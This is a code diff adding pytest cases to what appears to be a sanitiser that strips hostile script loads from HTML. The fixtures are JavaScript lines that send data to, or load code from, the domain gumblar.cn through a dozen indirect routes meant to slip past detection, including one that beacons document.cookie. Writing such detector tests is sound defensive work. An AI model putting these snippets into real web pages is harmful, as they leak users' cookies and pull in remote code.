@@ -213,3 +213,43 @@ def test_a_base64_data_block_run_by_a_loader_is_removed() -> None:
     alone = html(block)  # no loader: reported, kept
     out, (g,) = strip(alone)
     assert out is alone and g.reason == "mention" and not g.removed
+
+
+F = "var u='https://gumblar.cn/c';"
+PASSED_ON = {
+    "bind": F + "var b=navigator.sendBeacon.bind(navigator);b(u,document.cookie)",
+    "call": F + "fetch.call(null,u)",
+    "reflect-apply": F + "Reflect.apply(fetch,null,[u])",
+    "alias": F + "var f=fetch;f(u)",
+    "map": F + "[u].map(fetch)",
+    "then": F + "Promise.resolve(u).then(fetch)",
+    "constructor-alias": F + "var W=Worker;new W(u)",
+    "parenthesised": F + "new (window.WebSocket)(u)",
+    "reflect-construct": F + "Reflect.construct(WebSocket,[u])",
+    "open-alias": F + "var x=new XMLHttpRequest;var o=x.open;o.call(x,'POST',u)",
+    "set-attribute-alias": F + "var a=Element.prototype.setAttribute;a.call(img,'src',u)",
+    "setter": F
+    + "Object.getOwnPropertyDescriptor(HTMLImageElement.prototype,'src').set.call(img,u)",
+}
+
+
+@pytest.mark.parametrize("name", sorted(PASSED_ON))
+def test_load_functions_passed_on_are_loads(name: str) -> None:
+    body = html(f"<script>{PASSED_ON[name]}</script>")
+    out, findings = strip(body)
+    assert [f.removed for f in findings] == [True], findings
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "if(window.fetch){go()};if(!navigator.sendBeacon)x();var h=typeof WebSocket;"
+        "navigator.sendBeacon&&navigator.sendBeacon('/log',d)",
+        "if(dialog.open)close();var isOpen=dialog.open&&1;menu.open=true",
+        "var supports={fetch:!!window.fetch,ws:'WebSocket' in window}",
+    ],
+)
+def test_feature_detection_is_no_load(script: str) -> None:
+    body = html(f"<script>var ioc='gumblar.cn';{script}</script>")
+    out, (f,) = strip(body)
+    assert out is body and f.reason == "mention"
